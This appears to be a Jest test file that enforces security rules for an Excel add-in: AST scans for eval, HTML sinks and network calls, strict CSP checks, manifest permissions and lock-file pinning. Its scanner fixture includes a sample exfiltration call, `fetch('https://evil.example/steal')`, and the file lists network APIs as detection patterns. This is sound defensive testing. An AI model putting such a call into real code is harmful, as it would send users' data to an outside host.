/**
 * Security checks (issue 6) that need no network:
 * - the manifest asks for ReadWriteDocument and nothing more;
 * - no eval / new Function / string timers in src/ (parsed with the TypeScript compiler, so comments and strings do
 *   not count) nor in the built dist/*.js when a build exists;
 * - every HTML template under src/ carries a Content-Security-Policy meta tag; the policy (literal, or the one
 *   webpack.config.js injects for that page) has no 'unsafe-eval' and a script-src of 'self' (+ Microsoft's
 *   Office.js CDN for pages that load Office.js);
 * - workbook text is never rendered as HTML: no dangerouslySetInnerHTML / innerHTML / outerHTML /
 *   insertAdjacentHTML / document.write in src/;
 * - the add-in makes no network calls: no fetch / XMLHttpRequest / WebSocket / EventSource / sendBeacon in src/
 *   (the playground may fetch its own static files by relative URL);
 * - package-lock.json pins every dependency of package.json.
 * `npm audit` needs the network: scripts/audit.js (run by CI) — its decision logic is tested here offline.
 */
import * as fs from "fs";
import * as path from "path";
import ts from "typescript";

const ROOT = path.resolve(__dirname, "../..");

function walk(dir: string, exts: RegExp): string[] {
  if (!fs.existsSync(dir)) return [];
  const out: string[] = [];
  for (const d of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, d.name);
    if (d.isDirectory()) out.push(...walk(p, exts));
    else if (exts.test(d.name)) out.push(p);
  }
  return out.sort();
}

const rel = (p: string) => path.relative(ROOT, p).split(path.sep).join("/");
const SRC_CODE = walk(path.join(ROOT, "src"), /\.(ts|tsx|js|mjs|cjs)$/);

// ─────────────────────────── AST scanner ───────────────────────────

export interface Finding {
  file: string;
  line: number;
  what: string;
  arg?: string;
}

const NETWORK_GLOBALS = new Set(["fetch", "XMLHttpRequest", "WebSocket", "EventSource", "importScripts"]);
const HTML_SINKS = new Set(["innerHTML", "outerHTML"]);

/** Dangerous code and network calls in one file, found on the syntax tree (comments and strings ignored). */
export function scanSource(file: string, text: string): Finding[] {
  const kind = /\.tsx$/.test(file)
    ? ts.ScriptKind.TSX
    : /\.ts$/.test(file)
      ? ts.ScriptKind.TS
      : ts.ScriptKind.JS;
  const sf = ts.createSourceFile(file, text, ts.ScriptTarget.ES2020, true, kind);
  const out: Finding[] = [];
  const add = (node: ts.Node, what: string, arg?: string) =>
    out.push({
      file,
      line: sf.getLineAndCharacterOfPosition(node.getStart(sf)).line + 1,
      what,
      ...(arg !== undefined ? { arg } : {}),
    });
  const calleeName = (e: ts.Expression): string | null => {
    if (ts.isIdentifier(e)) return e.text;
    if (ts.isPropertyAccessExpression(e)) return e.name.text;
    if (ts.isParenthesizedExpression(e)) return calleeName(e.expression);
    return null;
  };
  const visit = (node: ts.Node): void => {
    if (ts.isCallExpression(node) || ts.isNewExpression(node)) {
      const name = calleeName(node.expression);
      const first = node.arguments?.[0];
      if (name === "eval") add(node, "eval(");
      if (name === "Function") add(node, "new Function");
      if (
        (name === "setTimeout" || name === "setInterval") &&
        first &&
        (ts.isStringLiteral(first) || ts.isTemplateExpression(first))
      )
        add(node, `${name}(string)`);
      if (
        name === "write" &&
        ts.isPropertyAccessExpression(node.expression) &&
        calleeName(node.expression.expression) === "document"
      )
        add(node, "document.write");
      if (name === "insertAdjacentHTML") add(node, "insertAdjacentHTML");
      if (name === "sendBeacon") add(node, "sendBeacon");
      if (name && NETWORK_GLOBALS.has(name))
        add(node, name, first && ts.isStringLiteralLike(first) ? first.text : first ? first.getText(sf) : "");
    }
    if (ts.isBinaryExpression(node) && node.operatorToken.kind === ts.SyntaxKind.EqualsToken) {
      const l = node.left;
      if (ts.isPropertyAccessExpression(l) && HTML_SINKS.has(l.name.text)) add(node, `${l.name.text} =`);
    }
    if (ts.isJsxAttribute(node) && node.name.getText(sf) === "dangerouslySetInnerHTML")
      add(node, "dangerouslySetInnerHTML");
    if (ts.isPropertyAssignment(node) && node.name.getText(sf) === "dangerouslySetInnerHTML")
      add(node, "dangerouslySetInnerHTML");
    ts.forEachChild(node, visit);
  };
  visit(sf);
  return out;
}

const CODE_EXEC = new Set(["eval(", "new Function", "setTimeout(string)", "setInterval(string)"]);
const HTML_WRITES = new Set([
  "innerHTML =",
  "outerHTML =",
  "insertAdjacentHTML",
  "document.write",
  "dangerouslySetInnerHTML",
]);
const NETWORK = new Set([...NETWORK_GLOBALS, "sendBeacon"]);

describe("the scanner itself", () => {
  test("finds what it must and ignores comments and strings", () => {
    const code = [
      "// eval(x) in a comment, new Function() too",
      "const s = \"fetch('http://x')\";",
      "eval(code);",
      "const f = new Function('a', 'return a');",
      "el.innerHTML = s;",
      "setTimeout('alert(1)', 0);",
      "await fetch('https://evil.example/steal');",
      "navigator.sendBeacon('/x', s);",
      "const w = new WebSocket('wss://x');",
    ].join("\n");
    expect(scanSource("x.ts", code).map((f) => [f.line, f.what])).toEqual([
      [3, "eval("],
      [4, "new Function"],
      [5, "innerHTML ="],
      [6, "setTimeout(string)"],
      [7, "fetch"],
      [8, "sendBeacon"],
      [9, "WebSocket"],
    ]);
    expect(scanSource("x.tsx", "const a = <div dangerouslySetInnerHTML={{ __html: s }} />;")[0]!.what).toBe(
      "dangerouslySetInnerHTML",
    );
  });
});

describe("source code", () => {
  const findings = SRC_CODE.flatMap((f) => scanSource(rel(f), fs.readFileSync(f, "utf8")));

  test("src/ has code files to scan", () => {
    expect(SRC_CODE.length).toBeGreaterThan(50);
  });

  test("no eval, new Function or string timers in src/", () => {
    expect(findings.filter((f) => CODE_EXEC.has(f.what))).toEqual([]);
  });

  test("workbook text is never rendered as HTML (no innerHTML / dangerouslySetInnerHTML / document.write)", () => {
    expect(findings.filter((f) => HTML_WRITES.has(f.what))).toEqual([]);
  });

  test("no network calls: fetch/XHR/WebSocket/EventSource/sendBeacon only for the playground's own static files", () => {
    const bad = findings.filter(
      (f) =>
        NETWORK.has(f.what) &&
        !(
          f.file.startsWith("src/playground/") &&
          f.what === "fetch" &&
          f.arg !== undefined &&
          /^(\.{0,2}\/|[\w-]+\.\w+)/.test(f.arg) &&
          !/^\/\//.test(f.arg)
        ),
    );
    expect(bad).toEqual([]);
  });
});

describe("built bundles", () => {
  const dist = path.join(ROOT, "dist");
  const bundles = walk(dist, /\.js$/).filter((f) => path.dirname(f) === dist);
  const maybe = bundles.length > 0 ? test : test.skip;

  /**
   * The playground's lazy ExcelJS chunk (src/playground/files/loadExcelJs.ts) is ExcelJS's own prebuilt browser
   * bundle, not our code: its bundled lodash/regenerator/setImmediate polyfills keep `Function("return this")`
   * fallbacks for hosts without `self`/`globalThis`, and `new Function(string)` for a string passed to setImmediate
   * — paths a browser never takes (ExcelJS never passes a string). Were one taken, the playground's CSP (no
   * 'unsafe-eval', checked below) would refuse it; the e2e run opens and saves .xlsx files under that CSP without a
   * console error. The task pane never loads the chunk (test/build/build.test.ts).
   */
  const VENDORED = new Set(["dist/exceljs.js"]);

  maybe("the exempted ExcelJS chunk is ExcelJS's browser build", () => {
    for (const f of bundles.filter((b) => VENDORED.has(rel(b))))
      expect(fs.readFileSync(f, "utf8")).toContain("xl/sharedStrings.xml");
  });

  maybe("no eval or new Function in dist/*.js", () => {
    const bad = bundles
      .filter((f) => !VENDORED.has(rel(f)))
      .flatMap((f) =>
        scanSource(rel(f), fs.readFileSync(f, "utf8")).filter(
          (x) => x.what === "eval(" || x.what === "new Function",
        ),
      );
    expect(bad).toEqual([]);
  });
});

// ─────────────────────────── CSP ───────────────────────────

const OFFICE_CDN = "https://appsforoffice.microsoft.com";

/** The CSP meta tag's content (quoted or minified attributes). */
function cspOf(html: string): string | null {
  const m = /<meta\s+http-equiv=["']?Content-Security-Policy["']?\s+content=(["'])(.*?)\1/i.exec(html);
  return m ? m[2]! : null;
}

function directives(csp: string): Map<string, string[]> {
  const map = new Map<string, string[]>();
  for (const part of csp.split(";")) {
    const [name, ...values] = part.trim().split(/\s+/);
    if (name) map.set(name.toLowerCase(), values);
  }
  return map;
}

/** Checks one effective policy; `officeJs` = the page loads Office.js from the CDN. */
function cspProblems(csp: string, officeJs: boolean): string[] {
  const problems: string[] = [];
  if (/unsafe-eval/i.test(csp)) problems.push("'unsafe-eval'");
  const d = directives(csp);
  const script = d.get("script-src") ?? d.get("default-src");
  if (!script) return [...problems, "no script-src/default-src"];
  const allowed = new Set(["'self'", ...(officeJs ? [OFFICE_CDN] : [])]);
  for (const v of script) if (!allowed.has(v.replace(/\/$/, ""))) problems.push(`script-src ${v}`);
  if (!script.includes("'self'")) problems.push("script-src without 'self'");
  // Workers only from the add-in's own files: never blob:/data: (code built at run time) or another origin.
  for (const v of d.get("worker-src") ?? []) if (v !== "'self'") problems.push(`worker-src ${v}`);
  return problems;
}

/** The CSP webpack.config.js injects per template (HtmlWebpackPlugin templateParameters.csp). */
function webpackPages(): Map<string, string> {
  // eslint-disable-next-line @typescript-eslint/no-require-imports
  const config = require(path.join(ROOT, "webpack.config.js"))({}, { mode: "production" }) as {
    plugins: { userOptions?: { template?: string; templateParameters?: { csp?: string } } }[];
  };
  const pages = new Map<string, string>();
  for (const p of config.plugins) {
    const o = p.userOptions;
    if (o?.template && o.templateParameters?.csp)
      pages.set(path.resolve(ROOT, o.template), o.templateParameters.csp);
  }
  return pages;
}

describe("Content-Security-Policy", () => {
  const templates = walk(path.join(ROOT, "src"), /\.html$/);
  const pages = webpackPages();

  test("the policy checker rejects unsafe policies", () => {
    expect(cspProblems("default-src 'self'; script-src 'self' 'unsafe-eval'", false)).toContain(
      "'unsafe-eval'",
    );
    expect(cspProblems("script-src 'self' https://cdn.example", false)).toEqual([
      "script-src https://cdn.example",
    ]);
    expect(cspProblems(`script-src 'self' ${OFFICE_CDN}`, false)).toEqual([`script-src ${OFFICE_CDN}`]);
    expect(cspProblems(`script-src 'self' ${OFFICE_CDN}`, true)).toEqual([]);
  });

  test("there are HTML templates", () => {
    expect(templates.length).toBeGreaterThan(0);
  });

  test("worker-src may only be 'self'", () => {
    expect(cspProblems("default-src 'self'; worker-src 'self' blob:", false)).toEqual(["worker-src blob:"]);
    expect(cspProblems("default-src 'self'; worker-src 'self'", false)).toEqual([]);
  });

  test("the pages that host the pane let it start its scoring worker from their own origin", () => {
    // The pane computes "Score this sheet" in a Web Worker (src/taskpane/createScoreWorker.ts).
    const workerPages = ["src/taskpane/taskpane.html", "src/playground/playground.html"];
    for (const page of workerPages) {
      const csp = pages.get(path.join(ROOT, page));
      expect([page, directives(csp ?? "").get("worker-src")]).toEqual([page, ["'self'"]]);
    }
    const creators = SRC_CODE.filter((f) => /new Worker\(/.test(fs.readFileSync(f, "utf8"))).map(rel);
    expect(creators).toEqual(["src/taskpane/createScoreWorker.ts"]);
  });

  test.each(templates.map((t) => [rel(t), t] as const))("%s has a strict CSP meta tag", (_name, file) => {
    const html = fs.readFileSync(file, "utf8");
    const raw = cspOf(html);
    expect(raw).not.toBeNull();
    const effective = /<%=\s*csp\s*%>/.test(raw!) ? pages.get(file) : raw!;
    expect(effective).toBeDefined();
    const officeJs = /officeJs|appsforoffice\.microsoft\.com/.test(html);
    expect(cspProblems(effective!, officeJs)).toEqual([]);
  });

  const built = walk(path.join(ROOT, "dist"), /\.html$/);
  (built.length > 0
    ? test.each(built.map((b) => [rel(b), b] as const))
    : test.skip.each([["(no build)", ""]]))("built %s has a strict CSP", (_n, file) => {
    const html = fs.readFileSync(file, "utf8");
    const csp = cspOf(html);
    expect(csp).not.toBeNull();
    expect(cspProblems(csp!, html.includes(OFFICE_CDN))).toEqual([]);
  });
});

// ─────────────────────────── manifest ───────────────────────────

test("manifest.xml asks for ReadWriteDocument and nothing more", () => {
  const xml = fs.readFileSync(path.join(ROOT, "manifest.xml"), "utf8");
  const perms = [...xml.matchAll(/<Permissions>\s*([^<]*?)\s*<\/Permissions>/g)].map((m) => m[1]);
  expect(perms).toEqual(["ReadWriteDocument"]);
});

// ─────────────────────────── dependencies ───────────────────────────

/** Minimal semver range check for the forms package.json uses (exact, ^, ~). */
export function satisfies(version: string, range: string): boolean {
  const parse = (v: string) =>
    v
      .replace(/^[\^~=v]/, "")
      .split("-")[0]!
      .split(".")
      .map(Number);
  const [a, b, c] = parse(version);
  const [x, y, z] = parse(range);
  if ([a, b, c, x, y, z].some((n) => n === undefined || Number.isNaN(n))) return false;
  const cmp = a! - x! || b! - y! || c! - z!;
  if (/^\d/.test(range) || range.startsWith("=")) return cmp === 0;
  if (cmp < 0) return false;
  if (range.startsWith("~")) return a === x && b === y;
  if (range.startsWith("^"))
    return x! > 0 ? a === x : y! > 0 ? a === 0 && b === y : a === 0 && b === 0 && c === z;
  return false;
}

describe("dependencies", () => {
  const pkg = JSON.parse(fs.readFileSync(path.join(ROOT, "package.json"), "utf8")) as {
    dependencies?: Record<string, string>;
    devDependencies?: Record<string, string>;
  };
  const lockPath = path.join(ROOT, "package-lock.json");

  test("satisfies() understands ^, ~ and exact ranges", () => {
    expect(satisfies("18.3.1", "^18.3.1")).toBe(true);
    expect(satisfies("19.0.0", "^18.3.1")).toBe(false);
    expect(satisfies("0.4.9", "^0.4.2")).toBe(true);
    expect(satisfies("0.5.0", "^0.4.2")).toBe(false);
    expect(satisfies("5.9.3", "~5.9.3")).toBe(true);
    expect(satisfies("5.10.0", "~5.9.3")).toBe(false);
    expect(satisfies("1.2.3", "1.2.3")).toBe(true);
    expect(satisfies("1.2.4", "1.2.3")).toBe(false);
  });

  test("package-lock.json exists and pins every dependency of package.json", () => {
    expect(fs.existsSync(lockPath)).toBe(true);
    const lock = JSON.parse(fs.readFileSync(lockPath, "utf8")) as {
      lockfileVersion: number;
      packages: Record<
        string,
        { version?: string; integrity?: string; dependencies?: object; devDependencies?: object }
      >;
    };
    expect(lock.lockfileVersion).toBeGreaterThanOrEqual(2);
    const root = lock.packages[""]!;
    expect(root.dependencies ?? {}).toEqual(pkg.dependencies ?? {});
    expect(root.devDependencies ?? {}).toEqual(pkg.devDependencies ?? {});
    const problems: string[] = [];
    for (const [name, range] of Object.entries({ ...pkg.dependencies, ...pkg.devDependencies })) {
      const entry = lock.packages[`node_modules/${name}`];
      if (!entry?.version) problems.push(`${name}: not in the lock file`);
      else if (!satisfies(entry.version, range)) problems.push(`${name}: locked ${entry.version} ∉ ${range}`);
      else if (!entry.integrity) problems.push(`${name}: no integrity hash`);
    }
    expect(problems).toEqual([]);
  });
});

// ─────────────────────────── scripts/audit.js (offline) ───────────────────────────

describe("scripts/audit.js decision", () => {
  // eslint-disable-next-line @typescript-eslint/no-require-imports
  const audit = require(path.join(ROOT, "scripts/audit.js")) as {
    evaluateAudit: (
      report: unknown,
      exceptions: Map<string, string>,
    ) => { high: number; critical: number; excepted: { package: string }[]; blocking: { package: string }[] };
    loadExceptions: (file?: string) => Map<string, string>;
  };
  const report = {
    vulnerabilities: {
      a: { severity: "critical" },
      b: { severity: "high" },
      c: { severity: "moderate" },
      d: { severity: "low" },
    },
  };

  test("high and critical block unless excepted; moderate and low do not", () => {
    expect(audit.evaluateAudit(report, new Map()).blocking.map((x) => x.package)).toEqual(["a", "b"]);
    const r = audit.evaluateAudit(report, new Map([["b", "dev-only path, not shipped"]]));
    expect(r.blocking.map((x) => x.package)).toEqual(["a"]);
    expect(r.excepted.map((x) => x.package)).toEqual(["b"]);
    expect(audit.evaluateAudit({}, new Map()).blocking).toEqual([]);
  });

  test("the committed exceptions file is valid (each exception has a reason)", () => {
    expect(() => audit.loadExceptions()).not.toThrow();
    const tmp = path.join(ROOT, "test-results", "bad-exceptions.json");
    fs.mkdirSync(path.dirname(tmp), { recursive: true });
    fs.writeFileSync(tmp, JSON.stringify({ exceptions: [{ package: "x" }] }));
    expect(() => audit.loadExceptions(tmp)).toThrow(/reason/);
    fs.unlinkSync(tmp);
  });
});
